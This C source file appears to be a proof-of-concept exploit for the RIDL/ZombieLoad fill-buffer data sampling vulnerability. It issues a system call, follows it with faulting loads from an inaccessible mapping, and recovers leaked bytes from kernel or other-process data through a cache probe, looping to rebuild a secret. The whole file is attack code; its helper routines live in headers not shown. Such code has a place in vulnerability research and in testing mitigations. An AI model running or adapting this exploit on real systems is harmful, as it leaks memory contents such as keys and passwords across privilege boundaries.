/*
 * RIDL and ZombieLoad (van Schaik et al., Schwarz et al., 2019), microarchitectural fill buffer data
 * sampling: a faulting load receives bytes of any line that came in last, chosen by their place in
 * the line only. Here the line is one that the kernel or another process has read before a system
 * call returned.
 */
#include "buffers.h"
#include "fault.h"

static const uint8_t *denied;

/* A system call, then loads that fault. */
static void call_and_sample(long number, long first, const void *second, long third)
{
	register const uint8_t *address_register __asm__("r9") = denied + place;
	register const uint8_t *probe_register __asm__("r8") = probe;
	register uint64_t known_register __asm__("r10") = known;

	__asm__ volatile(
		RESUME_AT_9
		"mov %[number], %%rax\n\t"
		"syscall\n\t"
		KEEP_FROM_RETIRING
		TWELVE_TIMES(SAMPLE_BUFFER)
		RESUMED
		: "+d"(third)
		: [number] "r"(number), "D"(first), "S"(second), [address] "r"(address_register),
		  [probe] "r"(probe_register), [known] "r"(known_register), [elsewhere] "r"(elsewhere)
		: "rax", "rcx", "r11", "memory", "cc");
}

static int sample(int index)
{
	prepare_use(index);
	aim(index);
	use_secret_by(call_and_sample, index);
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address)
		errx(2, "expected --address");
	open_secret();
	catch_faults();
	calibrate();
	prepare_eviction();
	probe = own_probe();
	memset(elsewhere, 1, sizeof(elsewhere));
	denied = mmap(NULL, PAGE_BYTES + LINE_BYTES, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (denied == MAP_FAILED)
		err(1, "mmap");
	recover_in_order(sample, 600);
	return 0;
}
